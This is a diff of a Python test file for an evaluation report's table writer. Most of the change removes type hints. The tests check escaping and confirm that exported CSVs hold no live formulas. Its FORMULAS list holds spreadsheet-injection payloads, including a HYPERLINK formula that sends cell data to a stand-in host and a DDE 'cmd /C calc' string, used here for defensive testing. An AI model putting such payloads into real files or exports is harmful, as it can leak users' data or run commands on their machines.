@@ -4,8 +4,6 @@ import csv
 import io
 import math
 import re
-from pathlib import Path
-from typing import Any
 
 import pandas as pd
 import pytest
@@ -25,16 +23,16 @@ from eval.report.tables import (
     write_rows,
 )
 
-PARTS: Any = TEMPLATES.get_template("parts.html").module
+PARTS = TEMPLATES.get_template("parts.html").module
 HOSTILE = 'a|b & 50%_x #1 $y$ {z} ~^ \\n <b> "q", `c` *d* [e]\nsecond line\r\n'
 
 
-def made(*rows: tuple[Any, ...], name: str = "made", **keys: Any) -> TableSpec:
+def made(*rows, name="made", **keys):
     """A small table of three columns."""
     return with_rows(name, keys.pop("title", "Scores"), {"model": "", "DDS": "+.1f", "p": "p"}, rows, **keys)
 
 
-def read(text: str) -> list[list[str]]:
+def read(text):
     """The cells of a CSV."""
     return list(csv.reader(io.StringIO(text, newline="")))
 
@@ -42,7 +40,7 @@ def read(text: str) -> list[list[str]]:
 SMALL = made(("bench_avg", -8.84159, 0.00002), ("aio", None, 0.5), note="5% & more")
 
 
-def test_a_small_table_in_five_languages() -> None:
+def test_a_small_table_in_five_languages():
     assert console(SMALL).splitlines() == [
         "Scores",
         "model       DDS       p",
@@ -79,19 +77,19 @@ def test_a_small_table_in_five_languages() -> None:
         *(("none", "+.1f", "none"), ((-1.26, 2.0), "+.1f", "[-1.3, +2.0]"), ((None, 2.0), ".1f", "–")),
     ],
 )
-def test_a_cell_is_printed(cell: Any, form: str, text: str) -> None:
+def test_a_cell_is_printed(cell, form, text):
     assert printed(cell, form) == text
 
 
-def test_an_interval_is_one_cell_and_two_columns_of_a_csv() -> None:
+def test_an_interval_is_one_cell_and_two_columns_of_a_csv():
     frame = pd.DataFrame({"judge": ["a", "b"], "low": [-1.26, math.nan], "high": [2.0, math.nan]})
-    columns: Any = {"judge": ("judge", ""), "95%": (("low", "high"), ".1f")}
+    columns = {"judge": ("judge", ""), "95%": (("low", "high"), ".1f")}
     table = TableSpec(name="made", title="", frame=frame, columns=columns)
     assert table.cells == [["a", "[-1.3, 2.0]"], ["b", "–"]]
     assert comma_separated(table) == "judge,95% low,95% high\na,-1.26,2.0\nb,,\n"
 
 
-def test_hostile_text_stays_one_cell_in_every_language() -> None:
+def test_hostile_text_stays_one_cell_in_every_language():
     table = made((HOSTILE, 1.0, 1.0), ("[1.0, 2.0]", 1.0, 1.0), title=HOSTILE, note=HOSTILE)
     assert read(comma_separated(table))[1][0] == HOSTILE.replace("\r\n", "\n")
     assert r'\<b\> "q", \`c\` \*d\* \[e\] second line' in markdown(table).splitlines()[4]
@@ -104,13 +102,13 @@ def test_hostile_text_stays_one_cell_in_every_language() -> None:
 FORMULAS = ['=HYPERLINK("http://x/"&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+SUM(A1)", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
 
 
-def test_an_endless_cell_is_whole_in_files_and_cut_on_the_page() -> None:
+def test_an_endless_cell_is_whole_in_files_and_cut_on_the_page():
     table = with_rows("t", "T", {"name": ""}, [["a" * 5000 + "z"]])
     _, ((_, [[cell]]),), _ = page_lines(table)
     assert (len(cell), cell[-1], len(comma_separated(table)) > 5000) == (400, "z", True)
 
 
-def test_no_text_in_a_csv_file_is_a_formula(tmp_path: Path) -> None:
+def test_no_text_in_a_csv_file_is_a_formula(tmp_path):
     for text in FORMULAS:
         _, scores = write_rows(tmp_path, "scores", [{"model": text, "datasets": (text, "b"), "dds": -1.5}])
         for written in (comma_separated(made((text, 1.0, 1.0))), scores.read_bytes().decode()):
@@ -121,7 +119,7 @@ def test_no_text_in_a_csv_file_is_a_formula(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(("optional", "heads"), [("[DDS, interval]", ["model", "DDS"]), ("true", ["model", "DDS"])])
-def test_a_table_of_yaml_leaves_out_optional_columns_that_no_row_has(optional: str, heads: list[str], tmp_path: Path):
+def test_a_table_of_yaml_leaves_out_optional_columns_that_no_row_has(optional, heads, tmp_path):
     file = tmp_path / "tables.yaml"
     columns = "{model: judge, DDS: [dds, +.1f], interval: [[low, high], +.1f]}"
     file.write_text(f"small:\n  title: Small\n  optional: {optional}\n  columns: {columns}\n")
